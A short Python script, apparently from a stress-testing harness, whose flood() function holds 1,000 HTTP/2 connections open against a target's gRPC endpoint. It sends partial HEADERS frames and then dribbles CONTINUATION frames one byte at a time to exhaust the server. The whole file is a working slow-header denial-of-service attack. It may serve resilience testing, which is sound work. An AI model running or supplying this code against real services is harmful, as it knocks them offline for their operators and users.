"""A thousand HTTP/2 connections whose header blocks arrive byte by byte."""

import time

from wire import CONTINUATION, GET, HEADERS, PREFACE, frame, hold, settings


def flood(target, until):
    peers = hold(target.grpc, 1_000, until, PREFACE + settings() + frame(HEADERS, 0, 1, GET[:2]))
    closed = 0
    while time.monotonic() < until:
        for peer in list(peers):
            try:
                peer.sendall(frame(CONTINUATION, 0, 1, b"")[:1])
            except OSError:
                closed += 1
                peers.remove(peer)
        time.sleep(0.5)
    return closed
